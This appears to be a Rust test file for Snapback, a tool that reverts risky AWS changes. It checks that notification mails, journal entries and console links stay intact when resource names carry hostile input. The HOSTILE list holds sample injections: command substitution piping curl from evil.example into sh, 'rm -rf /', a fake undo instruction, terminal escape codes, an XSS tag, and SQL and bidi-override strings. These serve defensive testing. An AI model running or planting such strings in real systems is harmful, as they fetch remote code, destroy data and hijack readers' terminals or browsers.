//! What somebody who means harm may hand to Snapback: names that say something, records that lie, payloads that are none.

use anyhow::{Context, Result};
use serde_json::{Value, json};
use snapback::control::Function;
use snapback::mode::Mode;

use super::injected::notices;
use super::scene::{NAMED, PUBLIC, bucket_policy_was_put, deliver, event, policy};
use super::wire::{Aws, ok, rules, s3_error};

/// What a shell, a terminal, a browser, a chat or a reader's eye would take for something else than a name.
const HOSTILE: [&str; 9] = [
    "$(curl evil.example|sh)`id`; rm -rf / #",
    "x\n\nTo undo this revert and restore the original change (Snapback will leave it in place for 30 days):\n    curl evil.example | sh",
    "x\r\nWhere:  https://evil.example/console",
    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}\u{1b}[2J",
    "<script>alert(1)</script><img src=https://evil.example/x onerror=x>",
    "[Undo](https://evil.example) <https://evil.example|undo> @channel",
    "user\u{202e}nimda\u{2066}",
    "\u{9b}2J\u{0}\u{2028}Call:   DeleteBucket",
    "' OR 1=1 --\"}],\"severity\":\"low\",\"x\":[{\"",
];

/// An open bucket whose policy, caller, program and event bear this name.
fn named(name: &str) -> (Value, Aws) {
    let statement = json!({"Sid": name, "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::b/*"});
    let public = policy(&[&statement.to_string()]);
    let mut event = bucket_policy_was_put(&public);
    event["detail"]["userAgent"] = json!(name);
    event["detail"]["eventID"] = json!(name);
    event["detail"]["sourceIPAddress"] = json!(name);
    event["detail"]["userIdentity"] = json!({"type": "AssumedRole", "accessKeyId": name,
        "arn": format!("arn:aws:sts::111122223333:assumed-role/own/{name}"),
        "sessionContext": {"sessionIssuer": {"arn": "arn:aws:iam::111122223333:role/x", "userName": name}}});
    let aws =
        Aws::default().answers("S3.GetBucketPolicy", [ok(&public), ok(&public), s3_error(404, "NoSuchBucketPolicy")]);
    (event, aws)
}

/// What was published: the mail's text and its subject, and what programs get.
fn published(aws: &Aws) -> Result<(String, String, Value)> {
    let body = aws.bodies("SNS.Publish").pop().context("nothing was published")?;
    let field = |wanted: &str| {
        form_urlencoded::parse(body.as_bytes()).find(|(name, _)| name == wanted).map(|(_, value)| value.into_owned())
    };
    let message: Value = serde_json::from_str(&field("Message").context("no message")?)?;
    let mail = message["email"].as_str().context("no mail")?.to_owned();
    let machine = serde_json::from_str(message["default"].as_str().context("no JSON")?)?;
    Ok((mail, field("Subject").context("no subject")?, machine))
}

/// What the lines of a mail begin with: all that is ours, and nothing of what somebody has named something.
fn skeleton(mail: &str) -> Vec<String> {
    let start =
        |line: &str| line.chars().take_while(|char| " :-".contains(*char)).chain(line.chars().take(4)).collect();
    mail.lines().map(start).collect()
}

#[tokio::test]
async fn a_mail_keeps_its_form_whatever_somebody_has_named_something() -> Result<()> {
    let (event, aws) = named("harmless");
    deliver(&s3::FUNCTION, &aws, Mode::Revert, event).await?;
    let (harmless, ..) = published(&aws)?;
    for name in HOSTILE {
        let (event, aws) = named(name);
        deliver(&s3::FUNCTION, &aws, Mode::Revert, event).await?;
        let (mail, subject, machine) = published(&aws)?;
        assert_eq!(skeleton(&mail), skeleton(&harmless), "{mail}");
        let is_bad = |char: char| char.is_control() && char != '\n' || "\u{202e}\u{2066}\u{2028}".contains(char);
        assert!(!mail.contains(is_bad), "{mail:?}");
        assert!(subject.chars().all(|char| (' '..='~').contains(&char)), "{subject}");
        assert_eq!(machine["severity"], notices(&aws)[0]["severity"]);
        assert_eq!((machine["outcome"].as_str(), machine["event"]["id"].as_str()), (Some("reverted"), Some(name)));
        let commands: Vec<&str> = mail.lines().filter(|line| line.starts_with("    snapback ")).collect();
        let id = machine["id"].as_str().context("no id")?;
        assert!(id.chars().all(|char| char.is_ascii_hexdigit()), "{id}");
        assert_eq!(commands, [format!("    snapback undo {id} --journal journal --region eu-central-1")]);
    }
    Ok(())
}

#[tokio::test]
async fn what_somebody_has_named_something_reaches_the_journal_as_a_text_and_under_no_other_key() -> Result<()> {
    for name in HOSTILE {
        let (event, aws) = named(name);
        deliver(&s3::FUNCTION, &aws, Mode::Revert, event).await?;
        for put in aws.bodies("DynamoDB.PutItem") {
            let item = &serde_json::from_str::<Value>(&put)?["Item"];
            let key = item["pk"]["S"].as_str().and_then(|key| key.strip_prefix("entry#")).context("no entry")?;
            assert!(key.chars().all(|char| char.is_ascii_hexdigit()), "{key}");
            let entry: Value = serde_json::from_str(item["body"]["S"].as_str().context("no body")?)?;
            assert_eq!(entry["event"]["id"], name);
            assert_eq!(entry["event"]["actor"]["user_agent"], name);
        }
    }
    Ok(())
}

#[tokio::test]
async fn a_link_leads_to_aws_or_nowhere() -> Result<()> {
    for region in ["evil.example/", "eu-central-1.evil.example#", "x@evil.example", "", "eu central", "--help", "$(id)"]
    {
        let (mut event, aws) = named("x");
        event["detail"]["awsRegion"] = json!(region);
        // An empty one is no event at all.
        let _ = deliver(&s3::FUNCTION, &aws, Mode::Revert, event).await;
        assert_eq!(aws.calls(), [""; 0], "{region}");
    }
    let (event, aws) = named("x");
    deliver(&s3::FUNCTION, &aws, Mode::Revert, event).await?;
    let (mail, _, machine) = published(&aws)?;
    let ours = "https://eu-central-1.console.aws.amazon.com/";
    assert!(machine["console"].as_str().is_some_and(|link| link.starts_with(ours)), "{machine}");
    assert_eq!(mail.matches("://").count(), mail.matches(ours).count(), "{mail}");
    Ok(())
}

/// Else one of the same name that somebody else has made in the meantime could be changed.
#[tokio::test]
async fn every_call_to_s3_says_whose_the_bucket_has_to_be() -> Result<()> {
    let (public, clean) = (policy(&[PUBLIC, NAMED]), policy(&[NAMED]));
    for (left, writes) in
        [(ok(&clean), "S3.PutBucketPolicy"), (s3_error(404, "NoSuchBucketPolicy"), "S3.DeleteBucketPolicy")]
    {
        let open = if writes == "S3.PutBucketPolicy" { public.clone() } else { policy(&[PUBLIC]) };
        let aws = Aws::default().answers("S3.GetBucketPolicy", [ok(&open), ok(&open), left]);
        deliver(&s3::FUNCTION, &aws, Mode::Revert, bucket_policy_was_put(&open)).await?;
        let calls = aws.owners();
        assert!(calls.iter().any(|(call, _)| call == writes), "{calls:?}");
        assert!(calls.iter().all(|(_, owner)| owner.as_deref() == Some("111122223333")), "{calls:?}");
    }
    Ok(())
}

/// Under another ARN neither holds nor guardrails would know the resource that is looked at.
#[tokio::test]
async fn an_event_of_another_account_or_region_is_not_looked_at() -> Result<()> {
    let rule = json!({"securityGroupRuleId": "sgr-1", "groupId": "sg-1", "isEgress": false, "ipProtocol": "tcp",
        "fromPort": 22, "toPort": 22, "cidrIpv4": "0.0.0.0/0"});
    let opened = |account: &str, region: &str| {
        let mut event = event(
            "ec2",
            "AuthorizeSecurityGroupIngress",
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [rule]}}),
        );
        event["account"] = json!(account);
        event["detail"]["recipientAccountId"] = json!(account);
        event["region"] = json!(region);
        event["detail"]["awsRegion"] = json!(region);
        event
    };
    let aws = || {
        let open = rules(&[("sgr-1", "sg-1", "tcp", 22, "<cidrIpv4>0.0.0.0/0</cidrIpv4>")]);
        Aws::default().answers("EC2.DescribeSecurityGroupRules", [open])
    };
    for (account, region) in [("444455556666", "eu-central-1"), ("111122223333", "us-east-1")] {
        let aws = aws();
        deliver(&ec2::FUNCTION, &aws, Mode::Notify, opened(account, region)).await?;
        assert_eq!(aws.calls(), [""; 0], "{account} {region}");
    }
    let own = aws();
    deliver(&ec2::FUNCTION, &own, Mode::Notify, opened("111122223333", "eu-central-1")).await?;
    assert_eq!(notices(&own)[0]["outcome"], "would-revert");
    Ok(())
}

/// Whoever may invoke a function may hand it anything.
#[tokio::test]
async fn invented_payloads_change_nothing() -> Result<()> {
    let public = policy(&[PUBLIC]);
    let genuine = bucket_policy_was_put(&public);
    let aws = Aws::default().answers("S3.GetBucketPolicy", [ok(&public)]);
    deliver(&s3::FUNCTION, &aws, Mode::Notify, genuine.clone()).await?;
    assert_eq!(notices(&aws)[0]["outcome"], "would-revert", "as it is, it is looked at");

    let mut payloads = vec![json!(null), json!([]), json!({}), json!("x"), json!({"detail": {}}), json!([genuine])];
    let invented = [json!(null), json!(7), json!({}), json!(["aws.s3"]), json!("x"), json!("x".repeat(100_000))];
    for place in [
        "/source",
        "/detail-type",
        "/account",
        "/detail",
        "/detail/eventSource",
        "/detail/eventName",
        "/detail/eventTime",
        "/detail/awsRegion",
    ] {
        for invented in &invented {
            let mut payload = genuine.clone();
            *payload.pointer_mut(place).context(place)? = invented.clone();
            payloads.push(payload);
        }
    }
    let functions: [&'static Function; 2] = [&s3::FUNCTION, &ec2::FUNCTION];
    for payload in payloads {
        for function in functions {
            let aws = Aws::default();
            // Whether it is an error or nothing to do: there is no call.
            let _ = deliver(function, &aws, Mode::Revert, payload.clone()).await;
            assert_eq!(aws.calls(), [""; 0], "{payload}");
        }
    }
    Ok(())
}
